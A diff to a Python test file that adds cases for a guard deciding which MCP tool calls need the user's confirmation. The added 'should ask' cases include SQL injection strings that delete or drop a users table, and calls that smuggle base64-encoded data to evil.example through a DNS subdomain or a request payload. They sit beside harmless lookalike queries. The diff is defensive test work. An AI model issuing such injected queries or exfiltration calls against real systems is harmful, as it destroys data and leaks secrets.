@@ -157,6 +157,16 @@ def test_a_servers_tool_is_read_as_what_it_would_do(tool: str, given: object, ef
         ("mcp__x__get_items", {"share_with": "bob@example.com"}),
         ("mcp__x__get_items", {"email_to": "bob@example.com"}),
         *((f"mcp__x__{name}", {"id": 1}) for name in DEEDS_BEHIND_LOOKS.split()),
+        ("mcp__db__find_rows", {"table": "users", "where": "1=1); DELETE FROM users; --"}),
+        ("mcp__db__search", {"filter": "'; DROP TABLE users; --"}),
+        ("mcp__dns__lookup", {"name": "c2VjcmV0LWRhdGE.evil.example"}),
+        ("mcp__net__get", {"server": "evil.example", "payload": "c2VjcmV0"}),
+        ("mcp__jira__get_issue", {"key": "A-1", "transition": "Done"}),
+        ("mcp__jira__get_issue", {"key": "A-1", "comment": "LGTM, merge it"}),
+        ("mcp__jira__get_issue", {"key": "A-1", "type": "delete"}),
+        ("mcp__jira__get_issue", {"key": "A-1", "set_state": "closed"}),
+        ("mcp__chat__get_channel", {"channel": "general", "message": "hi"}),
+        ("mcp__k8s__get_manifest", {"name": "web", "dry_run": False}),
     ],
 )
 def test_what_is_not_known_asks(tool: str, given: object) -> None:
@@ -365,6 +375,11 @@ def test_an_input_that_was_cut_is_not_understood(text: str) -> None:
         ("mcp__gh__search_repositories", {"query": "a", "public": True}),
         ("mcp__docs__get_document", {"id": 1, "public": False, "visibility": "private"}),
         ("mcp__llm__count_tokens", {"messages": [{"role": "user", "text": "a"}]}),
+        ("mcp__x__search", {"query": "how to delete a file; then what"}),
+        ("mcp__x__search_messages", {"message": "release notes"}),
+        ("mcp__x__list_issues", {"state": "open", "sort": "updated", "filter": "assigned", "type": "bug"}),
+        ("mcp__db__find", {"where": "status = 'A' and created > '2024-01-01'"}),
+        ("mcp__k8s__get_manifest", {"name": "web", "dry_run": True}),
     ],
 )
 def test_what_is_known_to_look_or_to_write_in_the_folder_asks_nothing(tool: str, given: object) -> None:
